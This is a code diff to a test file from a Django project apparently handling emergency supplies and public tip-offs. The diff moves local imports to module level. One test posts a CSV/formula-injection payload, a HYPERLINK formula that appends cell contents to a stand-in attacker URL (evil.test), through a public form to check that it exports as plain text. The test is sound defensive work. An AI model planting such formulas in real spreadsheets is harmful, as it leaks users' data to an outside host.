@@ -20,6 +20,10 @@ from yingji.core.testing import xlsx_rows
 from yingji.enterprises.importing import ENTERPRISE_IMPORTER
 from yingji.enterprises.models import Enterprise
 from yingji.enterprises.testing import credit_code
+from yingji.resources import services
+from yingji.resources.tasks import stock_reminders
+from yingji.resources.testing import MaterialFactory, WarehouseFactory
+from yingji.tipoffs.testing import public_form_data
 
 pytestmark = pytest.mark.django_db
 IMPORT_URL = "/enterprises/import/"
@@ -78,10 +82,6 @@ def test_a_cell_is_cut_at_the_excel_limit():
 
 
 def test_a_stock_reminder_with_a_control_character_exports(client, world):
-    from yingji.resources import services
-    from yingji.resources.tasks import stock_reminders
-    from yingji.resources.testing import MaterialFactory, WarehouseFactory
-
     store = WarehouseFactory(region=world.county1, name="甲区物资库")
     masks = MaterialFactory(name="口罩", unit="只", minimum_stock=100)
     services.stock_receive(warehouse=store, material=masks, quantity=50, document_number="RK-1", actor=None,
@@ -95,8 +95,6 @@ def test_a_stock_reminder_with_a_control_character_exports(client, world):
 
 
 def test_a_formula_sent_through_the_public_tipoff_form_exports_as_text(client, world):
-    from yingji.tipoffs.testing import public_form_data
-
     formula = '=HYPERLINK("http://evil.test/?"&A1,"查看详情")'
     response = client.post("/tipoffs/report/", public_form_data(world.village1, address=formula,
                                                                 reporter_name="@王\x1b举报"))
